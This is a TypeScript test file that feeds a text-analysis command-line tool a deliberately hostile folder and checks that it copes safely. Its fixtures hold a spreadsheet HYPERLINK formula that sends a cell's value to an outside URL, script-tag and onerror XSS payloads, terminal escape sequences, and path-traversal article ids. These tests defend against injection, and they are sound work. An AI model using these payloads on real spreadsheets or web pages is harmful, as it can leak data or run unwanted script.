import { execFileSync } from 'node:child_process'
import {
  chmodSync,
  existsSync,
  readFileSync,
  readdirSync,
  symlinkSync,
  truncateSync,
} from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { contend } from './support/contend.ts'
import { filesIn, temporaryFolder, writeFiles } from './support/folder.ts'
import { cell, plain, readTable } from './support/tables.ts'

const png = Uint8Array.of(
  0x89,
  0x50,
  0x4e,
  0x47,
  0x0d,
  0x0a,
  0x1a,
  0x0a,
  0,
  0,
  0,
  13,
  73,
  72,
  68,
  82,
)

const wide = (text: string): Uint8Array => Buffer.from(`\ufeff${text}`, 'utf16le')

/** `“Buyers don’t read,” she said – often.` in Windows-1252. */
const curly = Buffer.concat([
  Buffer.from('A note\n\n'),
  Buffer.from([0x93]),
  Buffer.from('Buyers don'),
  Buffer.from([0x92]),
  Buffer.from('t read,'),
  Buffer.from([0x94]),
  Buffer.from(' she said '),
  Buffer.from([0x96]),
  Buffer.from(' often. We think that they should read more than they do.\n'),
])

const link = '=HYPERLINK("http://example.org/?x="&A1,"open")'
const evilName = '<script>alert(1)</script>.txt'.replace('/', '∕')
const evilText = `${link}

<script>globalThis.owned = true</script> Companies must read scripts. <img src=x onerror="alert(2)">

@SUM(1+1) is a formula; -1 and +1 are too.
`

const files = {
  'in/empty.txt': '',
  'in/picture.txt': png,
  'in/wide.txt': wide('Wide letters\n\nEvery company should store text in one encoding only.\n'),
  'in/curly.txt': curly,
  'in/long-line.txt': 'x'.repeat(5_000_000),
  [`in/${evilName}`]: evilText,
  'in/=HYPERLINK("a").txt': 'A plain article.\n\nIt must be analysed like any other.\n',
}

/** What a folder may hold besides plain files of a decent size. */
const addOddities = (folder: string): void => {
  writeFiles(folder, { 'folder.txt/inside.txt': 'In a folder\n\nIt has the name of a file.\n' })
  execFileSync('mkfifo', [join(folder, 'pipe.txt')])
  symlinkSync('..', join(folder, 'up'))
  symlinkSync('nowhere', join(folder, 'dangling.txt'))
  writeFiles(folder, { 'sparse.txt': '', 'locked.txt': 'Locked\n\nNobody may read this.\n' })
  truncateSync(join(folder, 'sparse.txt'), 2 ** 30)
  if (process.getuid?.() !== 0) chmodSync(join(folder, 'locked.txt'), 0)
}

test('a hostile folder: what cannot be read fails, all others are analysed, every trouble is named', async () => {
  const cwd = temporaryFolder()
  writeFiles(cwd, files)
  addOddities(join(cwd, 'in'))
  const { code, stderr } = await contend(['run', 'in', '--out', 'out', '--no-cache'], { cwd })
  const out = join(cwd, 'out')
  expect(code, stderr).toBe(3)

  const paths = readTable(out, 'documents').map((row) => plain(cell(row, 'path')))
  const analyzed = Object.keys(files).filter((name) => name !== 'in/picture.txt')
  const odd = ['folder.txt/inside.txt', ...(process.getuid?.() === 0 ? ['locked.txt'] : [])]
  expect(paths.toSorted()).toEqual([...analyzed.map((name) => name.slice(3)), ...odd].toSorted())

  const troubles = readTable(out, 'diagnostics')
  const of = (path: string) => troubles.filter((row) => plain(cell(row, 'path')) === path)
  expect(of('picture.txt').map((row) => cell(row, 'severity'))).toContain('error')
  expect(of('picture.txt').map((row) => cell(row, 'doc_id'))).toEqual([''])
  expect(of('sparse.txt').map((row) => cell(row, 'code'))).toEqual(['file-too-large'])
  if (process.getuid?.() !== 0) {
    expect(of('locked.txt').map((row) => cell(row, 'code'))).toEqual(['unreadable-file'])
  }
  expect(of('empty.txt').map((row) => cell(row, 'severity'))).toContain('warning')
  expect(of('curly.txt').map((row) => cell(row, 'code'))).toContain('encoding-guessed')
  expect(of('long-line.txt').map((row) => cell(row, 'severity'))).toContain('warning')

  const documents = new Map(
    readTable(out, 'documents').map((row) => [plain(cell(row, 'path')), row] as const),
  )
  expect(cell(documents.get('empty.txt'), 'words')).toBe('0')
  expect(cell(documents.get('wide.txt'), 'encoding')).toBe('utf-16le')
  expect(cell(documents.get('curly.txt'), 'encoding')).toBe('windows-1252')
  const curlyText = readTable(out, 'sentences')
    .filter((row) => cell(row, 'doc_id') === 'curly')
    .map((row) => cell(row, 'text'))
    .join(' ')
  expect(curlyText).toContain('“Buyers don’t read,” she said – often.')
})

test('nothing an article says runs: not in a spreadsheet, not in a browser', async () => {
  const cwd = temporaryFolder()
  writeFiles(cwd, files)
  await contend(['run', 'in', '--out', 'out', '--no-cache', '-q'], { cwd })
  const out = join(cwd, 'out')
  for (const table of readdirSync(out).filter((name) => name.endsWith('.csv'))) {
    for (const row of readTable(out, table.slice(0, -4))) {
      for (const [column, value] of Object.entries(row)) {
        if (Number.isFinite(Number(value))) continue
        expect(value, `${table} ${column}`).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
      }
    }
  }
  for (const [path, contents] of filesIn(join(out, 'report'))) {
    expect(path).toMatch(/^[\w./-]+$/)
    if (!path.endsWith('.html')) continue
    expect(contents).not.toContain('<script>globalThis.owned')
    expect(contents).not.toContain('<script>alert')
    expect(contents).not.toContain('onerror="alert')
  }
})

test('--csv-raw writes cells as they are', async () => {
  const cwd = temporaryFolder()
  writeFiles(cwd, { 'in/a.txt': files[`in/${evilName}`] ?? '' })
  await contend(['run', 'in', '--out', 'out', '--csv-raw', '-q'], { cwd })
  const texts = readTable(join(cwd, 'out'), 'sentences').map((row) => cell(row, 'text'))
  expect(texts.some((text) => text.startsWith('=HYPERLINK'))).toBe(true)
})

test('control characters in a name do not reach the terminal', async () => {
  const cwd = temporaryFolder()
  const { stderr } = await contend(['run', 'no\u001b[31msuch\u202efile'], { cwd })
  expect(stderr).not.toContain('\u001b')
  expect(stderr).not.toContain('\u202e')
  expect(stderr).toContain('no\\x1b[31msuch\\u{202e}file')
})

test('names of articles lead nowhere outside the output folder', async () => {
  const cwd = temporaryFolder()
  const rows = [
    'id,text',
    '../../escaped,"Trees must be planted."',
    '/etc/x,"Trees are tall."',
    'CON,x',
  ]
  writeFiles(cwd, { 'in/rows.csv': rows.join('\n') })
  await contend(['run', 'in/rows.csv', '--out', 'deep/er/out', '-q'], { cwd })
  expect(existsSync(join(cwd, 'deep/escaped.html'))).toBe(false)
  for (const path of filesIn(join(cwd, 'deep')).keys()) expect(path).toMatch(/^er\/out\//)
  expect(
    readTable(join(cwd, 'deep/er/out'), 'documents').map((row) => cell(row, 'doc_id')),
  ).toEqual(expect.arrayContaining(['../../escaped', '/etc/x', 'CON']))
  expect(readFileSync(join(cwd, 'deep/er/out/run.json'), 'utf8')).not.toContain(cwd)
})
